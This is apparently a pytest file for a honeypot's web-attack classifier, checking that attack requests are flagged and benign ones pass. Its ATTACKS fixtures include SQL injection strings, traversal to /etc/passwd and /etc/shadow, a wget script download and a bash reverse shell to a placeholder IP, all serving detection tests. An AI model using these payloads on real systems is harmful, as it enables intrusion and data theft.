"""The shared web-attack classifier (also used by the HTTP honeypot)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from phantomnet.analyzers.web import classify, escapes_root, normalise

ATTACKS = [
    ("GET", "/p", "id=1' OR '1'='1", "", "http_sqli"),
    ("GET", "/p", "id=1%20UNION%20ALL%20SELECT%20NULL,NULL--", "", "http_sqli"),
    ("GET", "/p", "id=1 AND SLEEP(5)", "", "http_sqli"),
    ("GET", "/p", "id=1%2527%20or%201=1--", "", "http_sqli"),  # double encoded
    ("POST", "/login", "", "user=admin'--&pass=x", "http_sqli"),
    ("GET", "/p", "id=1;DROP TABLE users", "", "http_sqli"),
    ("GET", "/p", "id=UNION/**/SELECT/**/1", "", "http_sqli"),
    ("GET", "/p", "id=1 AND 5678=5678", "", "http_sqli"),  # sqlmap boolean probe
    ("GET", "/../../etc/passwd", "", "", "http_traversal"),
    ("GET", "/download", "file=..%2f..%2f..%2fetc%2fshadow", "", "http_traversal"),
    ("GET", "/download", "file=%252e%252e%252fwin.ini", "", "http_traversal"),
    ("GET", "/img", "f=/etc/passwd%00.png", "", "http_traversal"),
    ("GET", "/ping", "host=8.8.8.8;id", "", "http_cmd_injection"),
    ("GET", "/ping", "host=8.8.8.8|cat /etc/passwd", "", "http_cmd_injection"),
    ("POST", "/ping", "", "host=$(wget http://x/s.sh)", "http_cmd_injection"),
    ("GET", "/cgi", "q=`uname -a`", "", "http_cmd_injection"),
    ("GET", "/x", "c=bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "", "http_cmd_injection"),
]

BENIGN = [
    ("GET", "/search", "q=select a union station", ""),
    ("GET", "/blog/2024/how-to-cat-a-file", "", ""),
    ("GET", "/docs/a/../b.html", "", ""),
    ("POST", "/api/users", "", '{"name": "O\'Brien", "bio": "loves cat food & dogs"}'),
    ("GET", "/products", "sort=price&order=desc&page=2", ""),
    ("GET", "/", "utm_source=news;utm_medium=mail", ""),
    ("POST", "/comment", "", "text=I+said+%22drop+it%22+and+left"),
]


@pytest.mark.parametrize(("method", "path", "query", "body", "rule"), ATTACKS)
def test_attacks_are_classified(method: str, path: str, query: str, body: str, rule: str) -> None:
    found = classify(method, path, query, body)
    assert rule in {f.rule for f in found}, found
    hit = next(f for f in found if f.rule == rule)
    assert hit.location in ("path", "query", "body") and hit.excerpt


@pytest.mark.parametrize(("method", "path", "query", "body"), BENIGN)
def test_benign_requests_are_clean(method: str, path: str, query: str, body: str) -> None:
    assert classify(method, path, query, body) == []


def test_helpers() -> None:
    assert normalise("%2541") == "a"
    assert escapes_root("/a/../../b") and not escapes_root("/a/b/../c")


@given(st.text(max_size=300), st.text(max_size=300), st.binary(max_size=300))
def test_classify_is_total(path: str, query: str, body: bytes) -> None:
    for finding in classify("GET", path, query, body):
        assert finding.rule.startswith("http_")
